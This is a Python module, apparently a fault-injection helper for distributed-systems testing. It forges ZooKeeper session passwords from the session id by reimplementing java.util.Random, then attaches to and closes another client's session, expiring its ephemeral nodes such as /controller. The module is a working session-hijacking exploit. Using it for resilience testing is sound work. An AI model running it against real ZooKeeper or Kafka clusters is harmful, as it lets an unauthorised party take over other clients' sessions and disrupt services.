"""Ending somebody else's ZooKeeper session, without any help from its owner.

ZooKeeper derives a session's password from its id alone: 16 bytes of ``java.util.Random`` seeded
with ``id XOR 0xB3415C00``. Whoever knows the id (the ``ephemeralOwner`` of ``/controller`` or
``/brokers/ids/N``) can attach to the session and close it. The server then drops the owner's
connection, deletes the ephemerals, and answers the owner's reconnection with "expired". Source:
``SessionTrackerImpl`` and ``PrepRequestProcessor`` of ZooKeeper 3.4 to 3.9.

Limit: in ZooKeeper's transaction log this looks like a close by the client, not like an expiry by
the server; the history attributes it to the nemesis.
"""

from __future__ import annotations

import struct

from kazoo.client import KazooClient
from kazoo.exceptions import KazooException
from kazoo.handlers.threading import KazooTimeoutError

PASSWORD_BYTES = 16
_SUPER_SECRET = 0xB3415C00
_MULTIPLIER = 0x5DEECE66D
_INCREMENT = 0xB
_MASK_48 = (1 << 48) - 1

ATTACH_TIMEOUT_S = 3.0


class JavaRandom:
    """``java.util.Random``: a linear congruential generator of 48 bits."""

    def __init__(self, seed: int) -> None:
        self._state = (seed ^ _MULTIPLIER) & _MASK_48

    def next_int(self) -> int:
        """Return the next signed 32-bit integer."""
        self._state = (self._state * _MULTIPLIER + _INCREMENT) & _MASK_48
        unsigned = self._state >> 16
        return unsigned - (1 << 32) if unsigned >= 1 << 31 else unsigned

    def next_bytes(self, count: int) -> bytes:
        """Return ``count`` bytes; each integer gives four, the lowest first."""
        words = [struct.pack("<i", self.next_int()) for _ in range(-(-count // 4))]
        return b"".join(words)[:count]


def session_password(session_id: int) -> bytes:
    """Return the 16 bytes that ZooKeeper gave the session's owner. The id may be signed or unsigned."""
    return JavaRandom(session_id ^ _SUPER_SECRET).next_bytes(PASSWORD_BYTES)


def end_session(hosts: str, session_id: int) -> bool:
    """Attach to the session and close it; blocks up to a few seconds, so call it in a thread.

    Returns whether the attachment worked; False when the session was gone already or ZooKeeper did not answer.
    ``session_id`` is signed, as ``ephemeralOwner`` is.
    """
    client = KazooClient(
        hosts=hosts,
        timeout=ATTACH_TIMEOUT_S,
        client_id=(session_id, session_password(session_id)),
    )
    try:
        client.start(timeout=ATTACH_TIMEOUT_S)
        identity = client.client_id
        return identity is not None and identity[0] == session_id
    except (KazooException, KazooTimeoutError):
        return False
    finally:
        client.stop()
        client.close()
